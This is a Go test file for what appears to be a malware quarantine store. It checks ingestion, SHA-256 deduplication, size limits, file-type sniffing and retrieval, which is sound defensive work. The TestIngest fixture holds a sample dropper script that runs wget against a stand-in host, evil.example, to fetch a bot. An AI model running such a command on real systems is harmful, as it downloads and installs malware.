/*************************************************************************
 * Copyright 2026 Cyber Group 20. All rights reserved.
 * Contact: <rootxtrem3@users.noreply.github.com>
 *
 * This software may be modified and distributed under the terms of the
 * BSD 2-clause license. See the LICENSE file for details.
 **************************************************************************/

package quarantine

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"os"
	"path/filepath"
	"testing"

	"github.com/rootxtrem3/Cyber-Group-20/log"
)

func testStore(t *testing.T) *Store {
	t.Helper()
	q, err := Open(t.TempDir(), log.NewDiscardLogger())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		q.Close()
	})
	return q
}

func TestIngest(t *testing.T) {
	q := testStore(t)
	payload := []byte("#!/bin/sh\nwget http://evil.example/bot\n")
	want := sha256.Sum256(payload)
	wantHex := hex.EncodeToString(want[:])

	fc, err := q.Ingest(bytes.NewReader(payload), `dropper.sh`, `text/x-sh`, 1024)
	if err != nil {
		t.Fatal(err)
	}
	if fc.SHA256 != wantHex {
		t.Fatalf("sha mismatch %s != %s", fc.SHA256, wantHex)
	}
	if fc.Size != int64(len(payload)) {
		t.Fatal("size", fc.Size)
	}
	if fc.StoredPath != wantHex+`.sh` {
		t.Fatal("stored path", fc.StoredPath)
	}

	pth := filepath.Join(q.Dir(), fc.StoredPath)
	got, err := os.ReadFile(pth)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Fatal("stored bytes differ")
	}
	fi, err := os.Stat(pth)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != storedPerm {
		t.Fatalf("stored file is writable: %v", fi.Mode())
	}
	if q.Stored() != 1 {
		t.Fatal("stored count", q.Stored())
	}
}

func TestIngestDuplicate(t *testing.T) {
	q := testStore(t)
	payload := []byte(`duplicate payload bytes`)
	first, err := q.Ingest(bytes.NewReader(payload), `a.bin`, ``, 1024)
	if err != nil {
		t.Fatal(err)
	}
	// same bytes under another name must not rewrite the stored file
	pth := filepath.Join(q.Dir(), first.StoredPath)
	before, err := os.Stat(pth)
	if err != nil {
		t.Fatal(err)
	}
	second, err := q.Ingest(bytes.NewReader(payload), `b.bin`, ``, 1024)
	if err != nil {
		t.Fatal(err)
	}
	if second.SHA256 != first.SHA256 || second.StoredPath != first.StoredPath {
		t.Fatal("duplicate diverged", second)
	}
	after, err := os.Stat(pth)
	if err != nil {
		t.Fatal(err)
	}
	if !after.ModTime().Equal(before.ModTime()) {
		t.Fatal("stored file was rewritten")
	}
	if q.Duplicates() != 1 {
		t.Fatal("dupe count", q.Duplicates())
	}
	// metadata keeps the first filename
	fc, err := q.Get(first.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	if fc.OriginalFilename != `a.bin` {
		t.Fatal("index overwritten", fc.OriginalFilename)
	}
}

func TestIngestDuplicateDifferentExtension(t *testing.T) {
	q := testStore(t)
	payload := []byte(`same bytes, different disguises`)
	first, err := q.Ingest(bytes.NewReader(payload), `report.txt`, `text/plain`, 1024)
	if err != nil {
		t.Fatal(err)
	}
	// the extension comes from the client; the dedupe key must not
	second, err := q.Ingest(bytes.NewReader(payload), `report.exe`, `application/octet-stream`, 1024)
	if err != nil {
		t.Fatal(err)
	}
	if second.StoredPath != first.StoredPath {
		t.Fatal("same bytes stored twice", first.StoredPath, second.StoredPath)
	}
	if q.Duplicates() != 1 || q.Stored() != 1 {
		t.Fatal("counters", q.Duplicates(), q.Stored())
	}

	// exactly one payload file on disk
	ents, err := os.ReadDir(q.Dir())
	if err != nil {
		t.Fatal(err)
	}
	var payloads int
	for _, ent := range ents {
		if ent.IsDir() || ent.Name() == indexFilename {
			continue
		}
		payloads++
	}
	if payloads != 1 {
		t.Fatal("payload files on disk", payloads)
	}
}

func TestIngestTooLarge(t *testing.T) {
	q := testStore(t)
	payload := bytes.Repeat([]byte{0x41}, 512)
	if _, err := q.Ingest(bytes.NewReader(payload), `big.bin`, ``, 511); err != ErrTooLarge {
		t.Fatal("expected ErrTooLarge, got", err)
	}
	// nothing may leak out of staging
	dents, err := os.ReadDir(q.Dir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range dents {
		if d.Name() != indexFilename && d.Name() != stagingDir {
			t.Fatal("unexpected file", d.Name())
		}
	}
	staged, err := os.ReadDir(filepath.Join(q.Dir(), stagingDir))
	if err != nil {
		t.Fatal(err)
	}
	if len(staged) != 0 {
		t.Fatal("staging not cleaned")
	}
}

func TestIngestEmpty(t *testing.T) {
	q := testStore(t)
	if _, err := q.Ingest(bytes.NewReader(nil), `empty`, ``, 64); err != ErrEmptyFile {
		t.Fatal("expected ErrEmptyFile, got", err)
	}
}

func TestSniffedExtension(t *testing.T) {
	q := testStore(t)
	// ELF magic with no usable filename extension
	payload := append([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, bytes.Repeat([]byte{0}, 64)...)
	fc, err := q.Ingest(bytes.NewReader(payload), `payload`, `application/octet-stream`, 1024)
	if err != nil {
		t.Fatal(err)
	}
	if fc.DetectedType != `application/x-executable` {
		t.Fatal("detected type", fc.DetectedType)
	}
	if fc.StoredPath != fc.SHA256+`.elf` {
		t.Fatal("stored path", fc.StoredPath)
	}
}

func TestListGetOpen(t *testing.T) {
	q := testStore(t)
	payloads := [][]byte{
		[]byte(`payload one`),
		[]byte(`payload two`),
		[]byte(`payload three`),
	}
	for i, p := range payloads {
		if _, err := q.Ingest(bytes.NewReader(p), `f.txt`, `text/plain`, 1024); err != nil {
			t.Fatal(i, err)
		}
	}
	fcs, err := q.List()
	if err != nil {
		t.Fatal(err)
	}
	if len(fcs) != len(payloads) {
		t.Fatal("list count", len(fcs))
	}
	rc, fc, err := q.OpenFile(fcs[0].SHA256)
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	got, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(got)
	if hex.EncodeToString(sum[:]) != fc.SHA256 {
		t.Fatal("download bytes do not hash to recorded sha")
	}
	if _, _, err = q.OpenFile(`0000000000000000000000000000000000000000000000000000000000000000`); err != ErrNotFound {
		t.Fatal("expected ErrNotFound, got", err)
	}
}
